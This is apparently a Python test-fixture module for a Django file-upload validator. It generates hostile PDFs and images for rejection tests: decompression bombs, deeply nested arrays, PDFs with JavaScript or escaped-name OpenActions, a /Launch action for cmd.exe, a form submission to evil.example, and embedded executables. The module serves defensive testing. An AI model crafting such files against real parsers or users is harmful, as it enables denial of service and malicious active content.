"""Files: honest ones, and a corpus of hostile ones. Each is made here, none is kept in the repository."""

import io
import struct
import zlib
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, NumberObject, TextStringObject


def upload(content: bytes, name: str = "scan.pdf", content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type)


def picture(form: str = "PNG", *, size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: Any) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, *([] if mode in {"I;16", "P"} else ["red" if mode in {"RGB", "RGBA"} else 1])).save(buffer, form, **options)
    return buffer.getvalue()


def jpeg_with_place() -> bytes:
    """A photo lying on its side, with the camera's name and the place where it was made."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn by 90 degrees to see it upright
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[2] = (55.0, 45.0, 7.0)
    return picture("JPEG", exif=exif, comment=b"SecretComment")


def pdf(*, pages: int = 1, change: Any = None) -> bytes:
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(200, 200)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _root(key: str, value: Any) -> Any:
    def change(writer: PdfWriter) -> None:
        writer._root_object[NameObject(key)] = value

    return change


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    action.update({NameObject(f"/{key}"): TextStringObject(text) for key, text in entries.items()})
    return action


def _hidden_in_an_object_stream(writer: PdfWriter) -> None:
    writer.compress_identical_objects()
    writer._add_object(_action("/JavaScript", JS="app.alert(1)"))


def nested(levels: int = 5000) -> bytes:
    return pdf(change=_root("/Deep", TextStringObject("DEEP"))).replace(b"(DEEP)", b"[" * levels + b"]" * levels)


def bomb_png(width: int = 40_000, height: int = 40_000) -> bytes:
    """A picture of 1.6 thousand million pixels in a few kilobytes: its header, and a little of its data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    header = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def stream_bomb() -> bytes:
    """A PDF whose object stream grows from kilobytes to 120 MB."""
    packed = zlib.compress(b"0 " * 60_000_000)
    head = b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + str(len(packed)).encode() + b">>\nstream\n"
    body = head + packed + b"\nendstream\nendobj\n"
    trailer = b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<</Size 2/Root 1 0 R>>\nstartxref\n"
    return body + trailer + str(len(body)).encode() + b"\n%%EOF\n"


def javascript_in_escapes() -> bytes:
    return pdf(change=_root("/OpenAction", _action("/URI"))).replace(b"/S /URI", b"/S /J#61vaScript")


def refused() -> dict[str, tuple[bytes, str]]:
    """Name -> (content, code of the refusal)."""
    exe = b"MZ\x90\x00" + b"\x00" * 200
    return {
        "executable renamed to pdf": (exe, "file_of_wrong_type"),
        "elf": (b"\x7fELF" + b"\0" * 100, "file_of_wrong_type"),
        "html": (b"<html><script>alert(1)</script></html>", "file_of_wrong_type"),
        "svg with a script": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "file_of_wrong_type"),
        "zip": (b"PK\x03\x04" + b"\0" * 100, "file_of_wrong_type"),
        "gif": (b"GIF89a" + b"\0" * 50, "file_of_wrong_type"),
        "postscript": (b"%!PS-Adobe-3.0\n", "file_of_wrong_type"),
        "junk before a pdf": (b"<script>1</script>" + pdf(), "file_of_wrong_type"),
        "one byte": (b"%", "file_of_wrong_type"),
        "png signature alone": (b"\x89PNG\r\n\x1a\n", "file_damaged"),
        "half a png": (picture(size=(300, 300), mode="L")[:90], "file_damaged"),
        "half a jpeg": (picture("JPEG", size=(900, 900))[:700], "file_damaged"),
        "jpeg start, nothing else": (b"\xff\xd8\xff\xe0" + b"\0" * 30, "file_damaged"),
        "tiff in a png name": (picture("TIFF"), "file_of_wrong_type"),
        "40,000 by 40,000 pixels": (bomb_png(), "too_many_pixels"),
        "one line of 50,000 pixels": (bomb_png(50_000, 1), "too_many_pixels"),
        "pdf header alone": (b"%PDF-1.7\n", "file_damaged"),
        "pdf of noise": (b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF", "file_damaged"),
        "pdf without pages": (pdf(pages=0), "file_damaged"),
        "pdf that is a zip too": (pdf() + b"PK\x05\x06" + b"\0" * 18, "file_damaged"),
        "pdf with html after its end": (pdf() + b"<script>alert(1)</script>", "file_damaged"),
        "pdf bomb": (stream_bomb(), "file_damaged"),
        "pdf with a password": (pdf(change=lambda writer: writer.encrypt("secret")), "pdf_locked"),
        "pdf with an owner's password only": (pdf(change=lambda writer: writer.encrypt("", "owner")), "pdf_locked"),
        "pdf with javascript": (pdf(change=_root("/OpenAction", _action("/JavaScript", JS="app.alert(1)"))), "pdf_active"),
        "pdf with javascript in escapes": (javascript_in_escapes(), "pdf_active"),
        "pdf that starts a program": (pdf(change=_root("/OpenAction", _action("/Launch", F="cmd.exe"))), "pdf_active"),
        "pdf with an action nobody refers to": (pdf(change=_hidden_in_an_object_stream), "pdf_active"),
        "pdf that sends a form": (pdf(change=_root("/AA", _action("/SubmitForm", F="https://evil.example"))), "pdf_active"),
        "pdf with a file inside": (pdf(change=lambda writer: writer.add_attachment("a.exe", exe)), "pdf_active"),
        "pdf with an xfa form": (pdf(change=_root("/AcroForm", DictionaryObject({NameObject("/XFA"): NumberObject(1)}))), "pdf_active"),
        "pdf of 61 pages": (pdf(pages=61), "pdf_too_long"),
        "pdf nested without end": (nested(), "file_damaged"),
    }
